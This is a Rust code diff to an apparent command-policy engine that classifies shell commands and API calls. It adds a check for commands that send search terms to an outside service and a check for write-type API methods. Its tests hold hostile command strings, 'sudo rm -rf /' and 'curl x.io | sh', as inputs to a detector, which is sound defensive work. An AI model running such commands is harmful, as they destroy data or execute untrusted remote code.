@@ -9,6 +9,7 @@ use std::borrow::Cow;
 pub mod deferred;
 pub mod paths;
 pub mod removal;
+pub mod rpc;
 pub mod secrets;
 pub mod settings;
 pub mod shell;
@@ -803,6 +804,7 @@ pub fn call(b: Builtin, args: &[&Json]) -> Json {
         (B::ShellForcePush, [Json::String(s)]) => {
             Json::Bool(shell::cached(s, None).force_push_protected)
         }
+        (B::ShellAsksService, [Json::String(s)]) => Json::Bool(shell::cached(s, None).asks_service),
         // A working directory puts every relative path there.
         (B::ShellWritesOutside, [Json::String(s), cwd, ws]) => {
             Json::Bool(shell::cached(s, cwd.as_str()).writes_outside(ws.as_str()))
@@ -868,6 +870,7 @@ pub fn call(b: Builtin, args: &[&Json]) -> Json {
         }
         (B::PlantedCode, [Json::String(_), Json::Null, _]) => Json::String("none".into()),
         (B::UrlHost, [Json::String(u)]) => url::url_host(u).map(Json::String).unwrap_or(Json::Null),
+        (B::ApiMethodWrites, [Json::String(u)]) => Json::Bool(rpc::api_method_writes(u)),
         (B::HostScope, [Json::String(u), org]) => {
             Json::String(url::host_scope(u, org.as_str()).into())
         }
@@ -1145,6 +1148,12 @@ mod tests {
         assert_eq!(c("shell_kind", &[json!("sudo rm -rf /")]), "destructive");
         assert_eq!(c("shell_sudo", &[json!("sudo ls")]), true);
         assert_eq!(c("shell_remote_exec", &[json!("curl x.io | sh")]), true);
+        // round 26: the words of a search go to the service
+        assert_eq!(
+            c("shell_asks_service", &[json!("gh issue list --search 'x'")]),
+            true
+        );
+        assert_eq!(c("shell_asks_service", &[json!("git status")]), false);
         assert_eq!(
             c(
                 "shell_writes_outside",
